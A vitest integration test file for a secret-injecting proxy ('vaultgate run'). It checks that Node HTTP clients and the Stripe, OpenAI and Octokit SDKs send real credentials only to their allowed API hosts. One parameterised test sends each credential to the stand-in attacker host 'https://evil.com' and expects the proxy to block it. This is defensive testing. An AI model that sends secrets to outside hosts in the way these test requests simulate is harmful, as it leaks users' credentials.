// Node clients as users run them under `vaultgate run`: fetch, axios, node:http(s) with any agent, and the stripe, openai and octokit SDKs.
import { mkdtempSync, rmSync } from 'node:fs';
import type { ServerResponse } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { requireBuiltCli } from '../helpers/kit.js';
import { repoRoot } from '../helpers/server.js';
import { agentWith, allUpstreamBytes, header, runAs, startWorld, type AgentFx, type RunResult, type World } from '../proxy/helpers.js';

const values = {
  STRIPE_KEY: 'sk_test_51NodeSdkStripe0a1b2c3d4e5f',
  OPENAI_API_KEY: 'sk-proj-NodeSdkOpenAi9f8e7d6c5b4a',
  GITHUB_TOKEN: 'ghp_NodeSdkGithub00112233445566778899',
  API_KEY: 'k_NodeSdkGeneric_7d41c9e2',
};
type Name = keyof typeof values;
const placeholder = /^vgph_[0-9A-Za-z]{40}$/;

let w: World;
let fx: AgentFx;
let scratch: string;

beforeAll(async () => {
  requireBuiltCli();
  w = await startWorld();
  fx = await agentWith(w.s, [
    { key: 'STRIPE_KEY', value: values.STRIPE_KEY, allowed_domains: ['api.stripe.com'] },
    { key: 'OPENAI_API_KEY', value: values.OPENAI_API_KEY, allowed_domains: ['api.openai.com'] },
    { key: 'GITHUB_TOKEN', value: values.GITHUB_TOKEN, allowed_domains: ['api.github.com'] },
    { key: 'API_KEY', value: values.API_KEY, allowed_domains: ['api.x.com'] },
  ]);
  // The upstream plays every host; each SDK gets the JSON shape it parses.
  const json = (body: unknown) => (_q: unknown, res: ServerResponse) => res.setHeader('content-type', 'application/json').end(JSON.stringify(body));
  w.up.routes.set('/v1/customers', json({ object: 'list', data: [{ id: 'cus_1', object: 'customer' }], has_more: false, url: '/v1/customers' }));
  w.up.routes.set('/v1/models', json({ object: 'list', data: [{ id: 'gpt-test', object: 'model', created: 0, owned_by: 'test' }] }));
  w.up.routes.set('/user', json({ login: 'octocat', id: 1 }));
  w.up.routes.set('/echo', json({ echoed: true }));
  scratch = mkdtempSync(join(tmpdir(), 'vg-node-clients-'));
});
afterAll(async () => {
  await w.close();
  rmSync(scratch, { recursive: true, force: true });
});
beforeEach(() => w.up.reset());

/**
 * An ES module run with `node --input-type=module -e` from the repo (so bare imports resolve in its
 * node_modules). `body` returns what the client got; a thrown error's status is kept. It prints
 * the env variable it used, to show the child held the placeholder.
 */
function nodeClient(name: Name, body: string): string[] {
  const code = `const out = { env: process.env.${name} };
try { out.got = await (async () => { ${body} })(); }
catch (e) { out.error = { status: e.status ?? e.statusCode ?? e.response?.status ?? null, message: String(e.message).slice(0, 200) }; }
process.stdout.write(JSON.stringify(out));`;
  return [process.execPath, '--input-type=module', '-e', code];
}

interface Out { env: string; got?: unknown; error?: { status: number | null; message: string } }
async function run(command: string[], env: Record<string, string> = {}): Promise<{ r: RunResult; out: Out }> {
  const r = await runAs(w.s, fx.id, command, { cwd: repoRoot, env });
  let out: Out;
  try {
    out = JSON.parse(r.stdout) as Out;
  } catch {
    throw new Error(`child printed no JSON (exit ${r.code}):\n${r.stdout}\n${r.stderr}`);
  }
  return { r, out };
}

/** A Node https request and its whole response body, through whichever of node:https' functions `call` names. */
const httpsGet = (call: string) => `const { status, text } = await new Promise((resolve, reject) => {
  const req = ${call};
  req.on('response', (res) => { let text = ''; res.on('data', (d) => (text += d)); res.on('end', () => resolve({ status: res.statusCode, text })); });
  req.on('error', reject);
  req.end();
});
return { status, text };`;

interface Client {
  name: string;
  secret: Name;
  /** The request to the allowed host: the path the upstream must see, and the Authorization header it must carry. */
  path: string;
  authorization: (value: string) => string;
  /** The client's code, calling `host` (an https origin without the path). */
  code: (host: string) => string;
  /** What the client returns when the upstream answered. */
  got: unknown;
}

const bearer = (v: string) => `Bearer ${v}`;
const clients: Client[] = [
  {
    name: 'built-in fetch',
    secret: 'API_KEY',
    path: '/echo/fetch',
    authorization: bearer,
    code: (host) => `const res = await fetch('${host}/echo/fetch', { headers: { authorization: 'Bearer ' + process.env.API_KEY } });
if (!res.ok) throw Object.assign(new Error(await res.text()), { status: res.status });
return res.json();`,
    got: { echoed: true },
  },
  {
    name: 'axios',
    secret: 'API_KEY',
    path: '/echo/axios',
    authorization: bearer,
    code: (host) => `const { default: axios } = await import('axios');
return (await axios.get('${host}/echo/axios', { headers: { Authorization: 'Bearer ' + process.env.API_KEY } })).data;`,
    got: { echoed: true },
  },
  {
    name: 'node:https with the global agent (https.get)',
    secret: 'API_KEY',
    path: '/echo/global-agent',
    authorization: bearer,
    code: (host) => `const https = await import('node:https');
${httpsGet(`https.get('${host}/echo/global-agent', { headers: { authorization: 'Bearer ' + process.env.API_KEY } })`)}`,
    got: { status: 200, text: '{"echoed":true}' },
  },
  {
    // The named ESM import reads Node's live binding: the preload must have synced it.
    name: 'node:https with its own keep-alive agent (named ESM import of request)',
    secret: 'API_KEY',
    path: '/echo/own-agent',
    authorization: bearer,
    code: (host) => `const { request, Agent } = await import('node:https');
const agent = new Agent({ keepAlive: true });
try {
${httpsGet(`request('${host}/echo/own-agent', { agent, headers: { authorization: 'Bearer ' + process.env.API_KEY } })`)}
} finally { agent.destroy(); }`,
    got: { status: 200, text: '{"echoed":true}' },
  },
  {
    name: 'stripe SDK (customers.list; its own https.Agent)',
    secret: 'STRIPE_KEY',
    path: '/v1/customers',
    authorization: bearer,
    code: (host) => `const { default: Stripe } = await import('stripe');
const stripe = new Stripe(process.env.STRIPE_KEY, { host: '${new URL(host).hostname}', maxNetworkRetries: 0 });
const list = await stripe.customers.list();
return list.data.map((c) => c.id);`,
    got: ['cus_1'],
  },
  {
    name: 'openai SDK (models.list; fetch)',
    secret: 'OPENAI_API_KEY',
    path: '/v1/models',
    authorization: bearer,
    code: (host) => `const { default: OpenAI } = await import('openai');
const openai = new OpenAI({ baseURL: '${host}/v1', maxRetries: 0 });
const ids = [];
for await (const m of openai.models.list()) ids.push(m.id);
return ids;`,
    got: ['gpt-test'],
  },
  {
    name: '@octokit/rest (users.getAuthenticated; fetch)',
    secret: 'GITHUB_TOKEN',
    path: '/user',
    authorization: (v) => `token ${v}`,
    code: (host) => `const { Octokit } = await import('@octokit/rest');
const octokit = new Octokit({ auth: process.env.GITHUB_TOKEN, baseUrl: '${host}', request: { retries: 0 } });
return (await octokit.rest.users.getAuthenticated()).data.login;`,
    got: 'octocat',
  },
];

/** The allowed host of each secret (the SDKs' own defaults). */
const homes: Record<Name, string> = { STRIPE_KEY: 'https://api.stripe.com', OPENAI_API_KEY: 'https://api.openai.com', GITHUB_TOKEN: 'https://api.github.com', API_KEY: 'https://api.x.com' };

describe('each client reaches its API with the real value, and only there', () => {
  it.each(clients)('$name', async (c) => {
    const { r, out } = await run(nodeClient(c.secret, c.code(homes[c.secret])));
    // Silent: no warning from the preload (or anything else) on the child's stderr.
    expect([r.code, r.stderr]).toEqual([0, '']);
    expect(out).toEqual({ env: fx.env[c.secret], got: c.got });
    expect(out.env).toMatch(placeholder);
    expect(w.up.requests.map((q) => [q.sni, q.method, q.url])).toEqual([[new URL(homes[c.secret]).hostname, 'GET', c.path]]);
    expect(header(w.up.requests[0]!, 'authorization')).toBe(c.authorization(values[c.secret]));
  });

  it.each(clients)('$name, pointed at a host the secret is not allowed for: blocked with 403, nothing upstream', async (c) => {
    const { r, out } = await run(nodeClient(c.secret, c.code('https://evil.com')));
    expect(r.code, r.stderr).toBe(0);
    expect(out.env).toBe(fx.env[c.secret]);
    expect(out.error?.status ?? (out.got as { status?: number } | undefined)?.status).toBe(403);
    expect(w.up.requests).toEqual([]);
    expect(allUpstreamBytes(w.up)).not.toContain(values[c.secret]);
  });
});

describe('node:http and processes that are not HTTPS clients', () => {
  it('plain node:http is routed through the proxy too: only the proxy knows where api.stripe.com is', async () => {
    const code = `const http = await import('node:http');
${httpsGet("http.get('http://api.stripe.com/plain-http')")}`;
    const { r, out } = await run(nodeClient('API_KEY', code));
    expect([r.code, r.stderr]).toEqual([0, '']);
    expect(out.got).toEqual({ status: 200, text: 'ok' });
    expect(w.up.requests.map((q) => [q.sni, q.url])).toEqual([[null, '/plain-http']]);
  });

  it('a placeholder over plain node:http reaches the proxy and is refused there', async () => {
    const code = `const http = await import('node:http');
${httpsGet("http.get('http://api.x.com/plain-http', { headers: { 'x-key': process.env.API_KEY } })")}`;
    const { r, out } = await run(nodeClient('API_KEY', code));
    expect(r.code, r.stderr).toBe(0);
    expect(out.got).toEqual({ status: 403, text: JSON.stringify({ error: 'request blocked: plain http never carries a secret value', code: 'proxy_blocked' }) });
    expect(w.up.requests).toEqual([]);
  });

  it('a request over a Unix socket stays local (the proxy would have no host to send it to)', async () => {
    const socket = join(scratch, 'local.sock');
    const code = `const http = await import('node:http');
const server = http.createServer((q, res) => res.end('local ' + q.url));
await new Promise((r) => server.listen(${JSON.stringify(socket)}, r));
try {
${httpsGet(`http.request({ socketPath: ${JSON.stringify(socket)}, path: '/over-the-socket' })`)}
} finally { server.close(); }`;
    const { r, out } = await run(nodeClient('API_KEY', code));
    expect([r.code, r.stderr]).toEqual([0, '']);
    expect(out.got).toEqual({ status: 200, text: 'local /over-the-socket' });
    expect(w.up.requests).toEqual([]);
  });

  it('a Node child that makes no request runs as it would without the preload: same output, empty stderr', async () => {
    const r = await runAs(w.s, fx.id, [process.execPath, '-e', 'process.stdout.write(String(21 * 2) + " " + typeof require("node:https").request)'], { cwd: repoRoot });
    expect(r).toEqual({ code: 0, stdout: '42 function', stderr: '' });
  });

  it('the child is told to use the env proxy (NODE_USE_ENV_PROXY) and gets the preload after its own NODE_OPTIONS', async () => {
    const r = await runAs(w.s, fx.id, ['sh', '-c', 'printf "%s|%s" "$NODE_USE_ENV_PROXY" "$NODE_OPTIONS"'], { env: { NODE_OPTIONS: '--max-old-space-size=256' } });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toMatch(/^1\|--max-old-space-size=256 --import=file:\/\/\S+\/node-proxy-preload\.js$/);
  });
});
